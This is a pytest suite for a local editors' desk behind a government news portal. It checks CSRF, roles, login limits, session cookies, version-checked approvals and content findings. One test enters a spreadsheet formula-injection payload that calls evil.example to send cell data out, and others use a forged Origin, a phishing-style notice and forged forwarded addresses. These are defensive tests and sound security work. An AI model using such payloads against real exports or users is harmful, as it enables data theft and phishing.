"""The editors' desk over real HTTP on 127.0.0.1: sessions, CSRF, roles, login limits,
the bind refusal, secrets never kept or logged, and actions that reach the portal."""

from __future__ import annotations

import json
import logging
import re
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import timedelta
from pathlib import Path

import httpx
import pytest

from hub import pipeline
from hub.config import Config
from hub.errors import HubError
from hub.models import Attached, Attachment, Post
from hub.serve.desk import DeskServer, Limits
from hub.serve.desk.actions import NEEDS
from hub.serve.desk.auth import hash_password
from hub.store import Actor, LogQuery, Store
from tests.conftest import Clock, kept_bytes
from tests.test_review import T0, add, project, public_text

PASSWORDS = {"admin": "admin-password-1", "reviewer": "reviewer-pass-2", "editor": "editor-pass-3"}


@dataclass
class Site:
    config: Config
    desk: DeskServer
    clock: Clock
    town: str  # waiting for review (镇街动态 is under review: all)
    dept: str  # published

    @property
    def store(self) -> Store:
        return self.desk.desk.store

    clients: list[httpx.Client] = field(default_factory=list)

    def client(self) -> httpx.Client:
        client = httpx.Client(base_url=self.desk.url, timeout=60)
        self.clients.append(client)
        return client

    def login(self, role: str, client: httpx.Client | None = None) -> tuple[httpx.Client, str]:
        """A client logged in as the user of that role, and its CSRF token."""
        client = client or self.client()
        answer = log_in(client, role, PASSWORDS[role])
        assert answer.status_code == 303, answer.text[:300]
        page = client.get("/posts").text
        token = re.search(r'name="csrf" value="([^"]+)"', page)
        assert token is not None
        return client, token[1]

    def published(self) -> None:
        """Wait until the desk's publisher has published every action so far."""
        publisher = self.desk.desk.publisher
        assert publisher.wait(publisher.asked, 120), publisher.error
        assert publisher.error == ""


def seen(client: httpx.Client, post_id: str) -> dict[str, str]:
    """The version of a post its desk page shows (what an approval is of)."""
    found = re.search(r'name="version" value="([^"]+)"', client.get(f"/posts/{post_id}").text)
    assert found is not None
    return {"version": found[1], f"v-{post_id}": found[1]}


def log_in(client: httpx.Client, name: str, password: str) -> httpx.Response:
    form = client.get("/login").text
    token = re.search(r'name="token" value="([^"]+)"', form)
    assert token is not None
    return client.post("/login", data={"token": token[1], "name": name, "password": password})


@pytest.fixture
def site(tmp_path: Path) -> Iterator[Site]:
    config = project(tmp_path, "all")
    town, dept = add(config, ("banquan", "镇里召开防汛会议"), ("wlj", "文旅局发布旅游线路"))
    store = pipeline.open_store(config)
    for role, password in PASSWORDS.items():
        store.people.add(role, role, hash_password(password), Actor("test", T0))  # type: ignore[arg-type]
    pipeline.publish(config, store, T0)
    store.close()
    clock = Clock(T0 + timedelta(minutes=1))
    desk = DeskServer(config, clock, "127.0.0.1", 0, Limits(per_account=3, per_address=6)).start()
    made = Site(config, desk, clock, town, dept)
    yield made
    for client in made.clients:
        client.close()
    made.desk.stop()


# no session, no entry ------------------------------------------------------------------

PAGES = [
    "/",
    "/queue",
    "/posts",
    "/findings",
    "/posts/{dept}",
    "/log",
    "/log.csv",
    "/users",
    "/status",
    "/sources",
]
ACTIONS = [
    "/logout",
    "/queue",
    "/users",
    "/sources",
    *(f"/posts/{{dept}}/{action}" for action in NEEDS),
]


def test_every_page_and_action_without_a_session_sends_to_the_login(site: Site) -> None:
    with site.client() as client:
        for path in PAGES:
            answer = client.get(path.format(dept=site.dept))
            assert answer.status_code == 303, path
            assert answer.headers["location"].startswith("/login?next="), path
        for path in ACTIONS:
            answer = client.post(path.format(dept=site.dept), data={"csrf": "x"})
            assert answer.status_code == 303 and answer.headers["location"].startswith("/login")
        client.cookies.set("hub_desk", "a-token-this-desk-never-signed")
        assert client.get("/queue").status_code == 303
    assert site.store.desk.decision(site.dept).taken_down is False


def test_every_action_without_the_csrf_token_is_refused_and_changes_nothing(site: Site) -> None:
    client, token = site.login("admin")
    before = site.store.desk.last_entry()
    decisions = site.store.desk.decisions()
    form = {"reason": "r", "channel": "bumen", "to": "zhenjie", "from": "bumen", "of": site.town}
    for path in ACTIONS:
        url = path.format(dept=site.dept)
        for sent in ({}, {"csrf": "wrong"}, {"csrf": token[:-1]}):
            answer = client.post(url, data={**form, **sent})
            assert answer.status_code == 403, (url, sent)
            assert "CSRF" in answer.text
        # the right token from another site's page: the browser says where it came from
        foreign = client.post(
            url, data={**form, "csrf": token}, headers={"origin": "http://evil.example"}
        )
        assert foreign.status_code == 403, url
    assert client.get("/queue").status_code == 200  # still logged in: nothing logged out
    assert site.store.desk.last_entry() == before and site.store.desk.decisions() == decisions


def test_each_role_is_refused_what_it_may_not_do(site: Site) -> None:
    editor, token = site.login("editor")
    answer = editor.post(f"/posts/{site.town}/approve", data={"csrf": token})
    assert answer.status_code == 403
    bulk = editor.post("/queue", data={"csrf": token, "ids": site.town, "verdict": "approve"})
    assert bulk.status_code == 403
    assert editor.get("/users").status_code == 403
    made = editor.post("/users", data={"csrf": token, "what": "add", "name": "x", "role": "admin"})
    assert made.status_code == 403
    assert "通过所选" not in editor.get("/queue").text  # and the page does not offer it
    done = editor.post(f"/posts/{site.dept}/pin", data={"csrf": token, "channel": "bumen"})
    assert done.status_code == 303  # what an editor may do
    assert site.store.desk.decision(site.town).review == "waiting"
    assert site.store.people.user("x") is None
    reviewer, token = site.login("reviewer")
    assert reviewer.get("/users").status_code == 403
    answer = reviewer.post(
        f"/posts/{site.town}/approve", data={"csrf": token, **seen(reviewer, site.town)}
    )
    assert answer.status_code == 303
    assert site.store.desk.decision(site.town).review == "approved"


def test_an_admin_manages_users_and_a_disabled_user_is_out_at_once(site: Site) -> None:
    admin, token = site.login("admin")
    editor, _ = site.login("editor")
    answer = admin.post("/users", data={"csrf": token, "what": "disable", "name": "editor"})
    assert answer.status_code == 303
    assert editor.get("/queue").status_code == 303  # its session ended
    assert log_in(site.client(), "editor", PASSWORDS["editor"]).status_code == 401
    new = {"csrf": token, "what": "add", "name": "新编辑", "role": "editor"}
    short = admin.post("/users", data={**new, "password": "short"})
    assert short.status_code == 400 and "at least 10" in short.text
    assert admin.post("/users", data={**new, "password": "long-enough-1"}).status_code == 303
    actions = [e.action for e in site.store.desk.entries(LogQuery(user="admin"))]
    assert "user-disable" in actions and "user-add" in actions


def test_logins_are_limited_per_account_and_per_address(site: Site) -> None:
    with site.client() as client:
        for _ in range(3):
            assert log_in(client, "editor", "wrong-password").status_code == 401
        refused = log_in(client, "editor", PASSWORDS["editor"])  # even the right one, now
        assert refused.status_code == 429 and "分钟后再试" in refused.text
        assert log_in(client, "reviewer", PASSWORDS["reviewer"]).status_code == 303  # others may
        for _ in range(3):
            assert log_in(client, "nobody", "wrong-password").status_code == 401
        assert log_in(client, "admin", PASSWORDS["admin"]).status_code == 429  # this address
        site.clock.advance(timedelta(minutes=16))
        assert log_in(client, "editor", PASSWORDS["editor"]).status_code == 303
    actions = [e.action for e in site.store.desk.entries(LogQuery())]
    assert actions.count("login-failed") == 6 and actions.count("login-refused") == 2
    assert actions.count("login") == 2


def test_an_idle_session_ends(site: Site) -> None:
    client, _ = site.login("editor")
    site.clock.advance(timedelta(minutes=29))
    assert client.get("/queue").status_code == 200  # used: its idle time starts again
    site.clock.advance(timedelta(minutes=29))
    assert client.get("/queue").status_code == 200
    site.clock.advance(timedelta(minutes=31))
    assert client.get("/queue").status_code == 303


def test_session_cookies_are_httponly_samesite_and_pages_are_not_framed(site: Site) -> None:
    with site.client() as client:
        answer = log_in(client, "editor", PASSWORDS["editor"])
        cookie = answer.headers["set-cookie"]
        assert "httponly" in cookie.lower() and "samesite=strict" in cookie.lower()
        page = client.get("/queue")
        assert "frame-ancestors 'none'" in page.headers["content-security-policy"]
        assert page.headers["cache-control"] == "no-store"


def test_passwords_are_never_stored_or_logged(site: Site, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    with site.client() as client:
        log_in(client, "admin", "a-wrong-password-9")
        log_in(client, "admin", PASSWORDS["admin"])
    site.desk.stop()
    kept = kept_bytes(site.config)
    for password in (*PASSWORDS.values(), "a-wrong-password-9"):
        assert password.encode() not in kept
        assert password not in caplog.text
    assert b"$argon2id$" in kept
    site.desk = DeskServer(site.config, site.clock, "127.0.0.1", 0).start()  # for teardown


@pytest.mark.parametrize("host", ["0.0.0.0", "192.0.2.10", "::"])
def test_the_desk_refuses_to_listen_beyond_loopback_unless_allowed(
    tmp_path: Path, clock: Clock, host: str
) -> None:
    config = project(tmp_path, "none")
    with pytest.raises(HubError, match="loopback addresses only"):
        DeskServer(config, clock, host, 0)
    allowed = config.path.read_text(encoding="utf-8") + "desk: {allow_remote: true}\n"
    config.path.write_text(allowed, encoding="utf-8")
    if host == "192.0.2.10":  # allowed now: it gets as far as the socket, which is not ours
        with pytest.raises(OSError):
            DeskServer(pipeline.load(config.path), clock, host, 0)


# actions reach the portal ----------------------------------------------------------------


def test_approving_on_the_queue_publishes_and_takedown_unpublishes(site: Site) -> None:
    reviewer, token = site.login("reviewer")
    queue = reviewer.get("/queue").text
    assert "镇里召开防汛会议" in queue and "rule 1: group 镇街" in queue
    assert "文旅局发布旅游线路" not in queue
    assert "镇里召开防汛会议" not in public_text(site.config)
    answer = reviewer.post(
        "/queue",
        data={"csrf": token, "ids": [site.town], "verdict": "approve", **seen(reviewer, site.town)},
    )
    assert answer.status_code == 303
    site.published()
    assert "镇里召开防汛会议" in public_text(site.config)
    down = reviewer.post(f"/posts/{site.dept}/takedown", data={"csrf": token, "reason": "数据有误"})
    assert down.status_code == 303
    site.published()
    public = public_text(site.config)
    assert "文旅局发布旅游线路" not in public and site.dept not in public
    (entry,) = site.store.desk.entries(LogQuery(action="takedown"))
    assert (entry.user, entry.post_id, entry.reason) == ("reviewer", site.dept, "数据有误")
    assert entry.address == "127.0.0.1"


def test_a_rejection_needs_a_reason(site: Site) -> None:
    reviewer, token = site.login("reviewer")
    answer = reviewer.post("/queue", data={"csrf": token, "ids": site.town, "verdict": "reject"})
    assert answer.status_code == 400 and "reason" in answer.text
    answer = reviewer.post(
        "/queue",
        data={"csrf": token, "ids": site.town, "verdict": "reject", "reason": "错别字"}
        | seen(reviewer, site.town),
    )
    assert answer.status_code == 303
    decision = site.store.desk.decision(site.town)
    assert (decision.review, decision.reason, decision.reviewed_by) == (
        "rejected",
        "错别字",
        "reviewer",
    )


def test_bad_form_values_are_refused_with_a_reason_and_change_nothing(site: Site) -> None:
    editor, token = site.login("editor")
    before = site.store.desk.last_entry()
    for action, form in (
        ("pin", {"channel": "nope"}),
        ("pin", {"channel": "bumen", "until": "2020-01-01"}),
        ("pin", {"channel": "bumen", "until": "明天"}),
        ("move", {"from": "bumen", "to": "bumen"}),
        ("merge", {"of": site.dept}),
        ("merge", {"of": "https://x.gov.cn/none.html"}),
        ("timing", {"show_at": "2026-07-02", "hide_at": "2026-07-01"}),
    ):
        answer = editor.post(f"/posts/{site.dept}/{action}", data={"csrf": token, **form})
        assert answer.status_code == 400, (action, form, answer.text[:200])
    assert editor.get("/posts/nope").status_code == 404
    assert editor.post("/posts/nope/pin", data={"csrf": token}).status_code == 404
    assert site.store.desk.last_entry() == before


# the command line ------------------------------------------------------------------------


def test_users_and_the_log_from_the_command_line(tmp_path: Path) -> None:
    from click.testing import CliRunner  # noqa: PLC0415

    from hub.cli import main  # noqa: PLC0415

    config = project(tmp_path, "none")
    path = str(config.path)

    def hub(*args: str, stdin: str = "") -> tuple[int, str, str]:
        result = CliRunner().invoke(main, list(args), input=stdin, catch_exceptions=False)
        return result.exit_code, result.stdout, result.stderr

    code, out, _ = hub(
        "users", "add", "张三", "--role", "reviewer", "-c", path, stdin="long-password-1\n"
    )
    assert code == 0 and out == "added 张三 (reviewer)\n"
    code, _, err = hub("users", "add", "李四", "--role", "editor", "-c", path, stdin="short\n")
    assert code == 1 and "at least 10 characters" in err
    code, _, err = hub(
        "users", "add", "张三", "--role", "editor", "-c", path, stdin="long-password-2\n"
    )
    assert code == 1 and "already a user named '张三'" in err
    assert hub("users", "disable", "张三", "-c", path)[0] == 0
    code, out, _ = hub("users", "list", "--json", "-c", path)
    assert json.loads(out) == [{"name": "张三", "role": "reviewer", "disabled": True}]
    code, _, err = hub("users", "passwd", "王五", "-c", path, stdin="long-password-3\n")
    assert code == 1 and "no user named '王五'" in err

    code, out, _ = hub("log", "--json", "-c", path)
    lines = [json.loads(line) for line in out.splitlines()]
    assert [line["action"] for line in lines] == ["user-add", "user-disable"]
    assert lines[0]["user"].startswith("shell") and lines[0]["after"] == {
        "user": "张三",
        "role": "reviewer",
    }
    code, out, _ = hub("log", "--csv", "--action", "user-disable", "-c", path)
    assert out.splitlines()[0] == "\ufeffid,时间,用户,操作,稿件,栏目,修改前,修改后,理由,地址"
    assert len(out.splitlines()) == 2 and "user-disable" in out
    assert hub("log", "--since", "明天", "-c", path)[0] == 1
    assert "long-password" not in kept_bytes(config).decode("latin-1")


# routing from the desk -------------------------------------------------------------------


def test_an_admin_previews_and_saves_channels_yaml_and_the_live_site_waits(site: Site) -> None:
    admin, token = site.login("admin")
    live = site.config.path.read_text(encoding="utf-8")
    assert live in admin.get("/routing").text.replace("&#34;", '"').replace("&#39;", "'")
    home_before = (site.config.site_dir / "index.html").read_text(encoding="utf-8")

    broken = live.replace("slug: bumen", "slug: BUMEN")
    answer = admin.post("/routing", data={"csrf": token, "what": "preview", "text": broken})
    assert answer.status_code == 400 and "channels.yaml:7: channels[1].slug" in answer.text
    saved = admin.post("/routing", data={"csrf": token, "what": "save", "text": broken})
    assert saved.status_code == 400 and site.config.path.read_text(encoding="utf-8") == live

    # 部门快讯 renamed 部门动态 and also taking the towns' posts
    renamed = live.replace(
        "title: 部门快讯, include: [{group: 部门}]",
        "title: 部门动态, include: [{group: [部门, 镇街]}]",
    )
    assert renamed != live
    answer = admin.post("/routing", data={"csrf": token, "what": "preview", "text": renamed})
    assert answer.status_code == 200, answer.text[:300]
    assert "部门动态：进入 0 篇" not in answer.text  # the town's post is waiting, so none
    preview = re.search(r'href="(/routing/preview/[^"]+/)"', answer.text)
    assert preview is not None
    built = admin.get(preview[1])
    assert (
        built.status_code == 200 and "部门动态" in built.text and "文旅局发布旅游线路" in built.text
    )
    assert (site.config.site_dir / "index.html").read_text(encoding="utf-8") == home_before

    editor, editor_token = site.login("editor")
    assert editor.get("/routing").status_code == 403
    assert editor.get(preview[1]).status_code == 403
    refused = editor.post("/routing", data={"csrf": editor_token, "what": "save", "text": renamed})
    assert refused.status_code == 403

    answer = admin.post(
        "/routing", data={"csrf": token, "what": "save", "text": renamed, "reason": "栏目更名"}
    )
    assert answer.status_code == 303
    assert site.config.path.read_text(encoding="utf-8") == renamed
    (kept,) = site.config.root.glob("channels.yaml.*.bak")
    assert kept.read_text(encoding="utf-8") == live
    (entry,) = site.store.desk.entries(LogQuery(action="routing-save"))
    assert entry.user == "admin" and entry.reason == "栏目更名"
    assert "+  - {slug: bumen, title: 部门动态" in json.loads(entry.after)["diff"]
    site.published()
    assert "部门动态" in (site.config.site_dir / "index.html").read_text(encoding="utf-8")


# what a hostile review found ---------------------------------------------------------------


def test_an_approval_is_of_the_version_the_reviewer_saw(site: Site) -> None:
    reviewer, token = site.login("reviewer")
    before = seen(reviewer, site.town)
    editor, editor_token = site.login("editor")
    edit = {"csrf": editor_token, "title": "镇里召开防汛工作会议", "summary": ""}
    assert editor.post(f"/posts/{site.town}/edit", data=edit).status_code == 303
    stale = reviewer.post(f"/posts/{site.town}/approve", data={"csrf": token, **before})
    assert stale.status_code == 400 and "有改动" in stale.text
    bulk = reviewer.post(
        "/queue", data={"csrf": token, "ids": site.town, "verdict": "approve", **before}
    )
    assert bulk.status_code == 303
    assert "未处理" in reviewer.get(bulk.headers["location"]).text
    assert site.store.desk.decision(site.town).review == "waiting"
    fresh = seen(reviewer, site.town)
    answer = reviewer.post(f"/posts/{site.town}/approve", data={"csrf": token, **fresh})
    assert answer.status_code == 303
    site.published()
    assert "镇里召开防汛工作会议" in public_text(site.config)
    # an editor's edit after the approval is reviewed again
    edit["title"] = "镇里开会"
    assert editor.post(f"/posts/{site.town}/edit", data=edit).status_code == 303
    site.published()
    assert "镇里开会" not in public_text(site.config) and "镇里召开防汛" not in public_text(
        site.config
    )


def test_an_editor_cannot_publish_a_waiting_post_by_moving_it(site: Site) -> None:
    editor, token = site.login("editor")
    for action, form in (
        ("remove", {"channel": "zhenjie"}),
        ("move", {"from": "zhenjie", "to": "bumen"}),
    ):
        answer = editor.post(f"/posts/{site.town}/{action}", data={"csrf": token, **form})
        assert answer.status_code == 303
        site.published()
        assert "镇里召开防汛会议" not in public_text(site.config), action
        assert site.store.desk.decision(site.town).review == "waiting"


def test_an_editors_add_to_a_reviewed_channel_is_reviewed_not_waved_through(site: Site) -> None:
    editor, token = site.login("editor")
    answer = editor.post(f"/posts/{site.dept}/add", data={"csrf": token, "channel": "zhenjie"})
    assert answer.status_code == 303
    site.published()
    assert "文旅局发布旅游线路" not in public_text(site.config)
    assert site.store.desk.decision(site.dept).review == "waiting"
    assert site.store.desk.entries(LogQuery(user="hub")) == []


def test_forwarded_addresses_are_not_believed(site: Site) -> None:
    with site.client() as client:
        for n in range(4):
            forged = {"x-forwarded-for": f"198.51.100.{n}"}
            form = client.get("/login").text
            token = re.search(r'name="token" value="([^"]+)"', form)
            assert token is not None
            data = {"token": token[1], "name": f"x{n}", "password": "wrong-password"}
            client.post("/login", data=data, headers=forged)
    addresses = {e.address for e in site.store.desk.entries(LogQuery(action="login-failed"))}
    assert addresses == {"127.0.0.1"}


def test_the_csv_export_never_hands_a_spreadsheet_a_formula(site: Site) -> None:
    with site.client() as client:
        log_in(client, '=HYPERLINK("http://evil.example/?"&A1,"x")', "wrong-password")
    admin, _ = site.login("admin")
    text = admin.get("/log.csv").text
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text


def test_big_or_unmeasured_bodies_are_refused_unread(site: Site) -> None:
    with site.client() as client:
        big = client.post("/queue", content=b"x" * (3 * 1024 * 1024))
        assert big.status_code == 413
        request = client.build_request("POST", "/queue", content=iter([b"a=b"]))
        assert client.send(request).status_code == 411  # chunked: no length


def test_the_session_cookie_lasts_the_browser_session_and_notes_are_signed(site: Site) -> None:
    with site.client() as client:
        answer = log_in(client, "editor", PASSWORDS["editor"])
        (cookie,) = [
            c.lower() for c in answer.headers.get_list("set-cookie") if c.startswith("hub_desk=")
        ]
        assert "max-age" not in cookie and "expires" not in cookie and "httponly" in cookie
        page = client.get("/queue", params={"done": "请到 http://evil.example 重新登录"})
        assert "evil.example" not in page.text


@pytest.mark.parametrize("name", ["hub", "shell:root", "admin\u200b", "a b", ""])
def test_misleading_user_names_are_refused(site: Site, name: str) -> None:
    admin, token = site.login("admin")
    form = {
        "csrf": token,
        "what": "add",
        "name": name,
        "role": "admin",
        "password": "long-password-9",
    }
    answer = admin.post("/users", data=form)
    assert answer.status_code == 400
    assert [u.name for u in site.store.people.users()] == sorted(PASSWORDS)


@pytest.mark.parametrize(
    ("path", "query"),
    [
        ("/queue", {"page": "\u00b2"}),
        ("/log", {"since": "0001-01-01"}),
        ("/log.csv", {"until": "9999-12-31"}),
    ],
)
def test_odd_query_values_get_a_page_not_a_500(
    site: Site, path: str, query: dict[str, str]
) -> None:
    admin, _ = site.login("admin")
    assert admin.get(path, params=query).status_code == 200


def test_dates_out_of_range_are_refused(site: Site) -> None:
    editor, token = site.login("editor")
    for action, form in (
        ("pin", {"channel": "bumen", "until": "9999-12-31T23:59"}),
        ("timing", {"show_at": "0001-01-01T00:00"}),
    ):
        answer = editor.post(f"/posts/{site.dept}/{action}", data={"csrf": token, **form})
        assert answer.status_code == 400, action
    assert editor.get(f"/posts/{site.dept}").status_code == 200


def test_channels_yaml_overrides_keep_working_and_show_on_the_desk(site: Site) -> None:
    text = site.config.path.read_text(encoding="utf-8")
    override = f"overrides:\n  - {{post: {site.dept}, pin: [bumen], note: 县里要求置顶}}\n"
    site.config.path.write_text(text + override, encoding="utf-8")
    editor, _ = site.login("editor")
    page = editor.get(f"/posts/{site.dept}").text
    assert "来自 channels.yaml 的设置" in page and "置顶于 bumen" in page and "县里要求置顶" in page


# the desk beside the scheduler ---------------------------------------------------------------


def test_a_crawl_under_way_does_not_delay_a_takedown(site: Site) -> None:
    """The desk's publishes take the publish lock only: the writer lock that a crawl
    holds for minutes is not in the way."""
    editor, token = site.login("editor")
    with pipeline.writer_lock(site.config):  # as `hub crawl` or a scheduler tick holds it
        answer = editor.post(f"/posts/{site.dept}/takedown", data={"csrf": token})
        assert answer.status_code == 303
        site.published()
        assert "文旅局发布旅游线路" not in public_text(site.config)


def test_a_publish_under_way_delays_the_desks_and_loses_nothing(site: Site) -> None:
    """Two actions made while another publish holds the publish lock both reach the
    portal once it is free: each publish reads every decision committed before it."""
    from hub.pipeline import runs  # noqa: PLC0415

    editor, token = site.login("editor")
    publisher = site.desk.desk.publisher
    with runs.publish_lock(site.config):
        done = publisher.done
        pin = {"csrf": token, "channel": "bumen"}
        assert editor.post(f"/posts/{site.dept}/pin", data=pin).status_code == 303
        assert editor.post(f"/posts/{site.dept}/lead", data={"csrf": token}).status_code == 303
        time.sleep(1.0)
        assert publisher.done == done  # waiting for the lock, not publishing past it
    site.published()
    home = (site.config.site_dir / "index.html").read_text(encoding="utf-8")
    section = (site.config.site_dir / "c/bumen/index.html").read_text(encoding="utf-8")
    assert 'class="headline"' in home and "文旅局发布旅游线路" in home
    assert "置顶" in section


# content findings (issue 14) -------------------------------------------------------------


def test_a_reviewer_dismisses_a_finding_with_a_reason_and_the_held_post_goes_out(
    site: Site,
) -> None:
    (held,) = add(site.config, ("wlj", "文旅局锟斤拷通知"))  # garbled: serious, held
    pipeline.publish(site.config, site.store, T0 + timedelta(minutes=1))
    assert "锟斤拷" not in public_text(site.config)
    editor, token = site.login("editor")
    page = editor.get(f"/posts/{held}").text
    assert "乱码「锟斤拷」" in page and "忽略此项" not in page  # editors may not dismiss
    key = "garbled:title:锟斤拷"
    for sent, status in ((key, 403), (f" {key} ", 400), (key + " " * 600, 400)):
        refused = editor.post(
            f"/posts/{held}/dismiss", data={"csrf": token, "finding": sent, "reason": "x"}
        )
        assert refused.status_code == status, sent  # the key exactly, or nothing
    assert "锟斤拷" not in public_text(site.config)
    reviewer, token = site.login("reviewer")
    assert "忽略此项" in reviewer.get(f"/posts/{held}").text
    listed = reviewer.get("/findings").text
    assert f"/posts/{held}" in listed and "（1 篇稿件" in listed
    no_reason = reviewer.post(f"/posts/{held}/dismiss", data={"csrf": token, "finding": key})
    assert no_reason.status_code == 400 and "reason" in no_reason.text
    for where in ("title", "text"):  # held by both: one dismissed is not enough
        assert "文旅局锟斤拷通知" not in public_text(site.config)
        answer = reviewer.post(
            f"/posts/{held}/dismiss",
            data={"csrf": token, "finding": f"garbled:{where}:锟斤拷", "reason": "原稿如此"},
        )
        assert answer.status_code == 303
        site.published()
    assert "文旅局锟斤拷通知" in public_text(site.config)
    entries = site.store.desk.entries(LogQuery(action="dismiss"))
    assert {(e.user, e.post_id, e.reason) for e in entries} == {("reviewer", held, "原稿如此")}
    assert "乱码" not in reviewer.get(f"/posts/{held}").text  # it does not come back
    assert f"/posts/{held}" not in reviewer.get("/findings").text  # nor on the list


def test_an_editor_dismisses_what_does_not_hold_a_post_and_only_a_finding_it_has(
    site: Site,
) -> None:
    (post,) = add(site.config, ("wlj", "文旅局贯切落实通知"))  # a typo: a warning, shown
    pipeline.publish(site.config, site.store, T0 + timedelta(minutes=1))
    editor, token = site.login("editor")
    assert "忽略此项" in editor.get(f"/posts/{post}").text
    for key in ("typo:title:别的字", "garbled:title:锟斤拷", "typo:title:贯切落实\nx"):
        answer = editor.post(
            f"/posts/{post}/dismiss", data={"csrf": token, "finding": key, "reason": "误报"}
        )
        assert answer.status_code == 400, key  # not one of the post's findings
    answer = editor.post(
        f"/posts/{post}/dismiss",
        data={"csrf": token, "finding": "typo:title:贯切落实", "reason": "引用原文"},
    )
    assert answer.status_code == 303
    page = editor.get(f"/posts/{post}").text
    assert "「贯彻落实」，标题" not in page and "「贯彻落实」，正文" in page  # (the text's stays)
    assert [e.user for e in site.store.desk.entries(LogQuery(action="dismiss"))] == ["editor"]


def test_a_posts_page_says_what_became_of_each_attachment(site: Site) -> None:
    urls = [f"https://x.gov.cn/wlj/{name}" for name in ("a.pdf", "b.docx", "c.xls", "d.pdf")]
    post = Post(
        source_id="wlj",
        key="附件",
        url="https://x.gov.cn/wlj/f.html",
        title="关于公布名单的公示",
        content_html="<p>见附件。</p>",
        text="见附件。",
        published=T0,
        attachments=tuple(Attachment(f"附件{n}", url) for n, url in enumerate(urls, 1)),
    )
    store = pipeline.open_store(site.config)
    store.save([post], T0)
    store.attachments.record(
        Attached(urls[0], T0, True, format="pdf", pages=3, text="名单", kept="x.pdf")
    )
    store.attachments.record(Attached(urls[1], T0, True, kind="encrypted", format="docx"))
    store.attachments.record(Attached(urls[2], T0, False, kind="http", note="HTTP 404"))
    store.close()
    editor, _ = site.login("editor")
    page = editor.get(f"/posts/{post.id}").text
    assert "附件1</a>：已读取文字（3 页），可被搜索；本站已存档" in page
    assert "附件2</a>：已下载，未能读取文字：加密，需要密码" in page
    assert "附件3</a>：下载未成功（http），将再试" in page
    assert "附件4</a>：尚未下载" in page
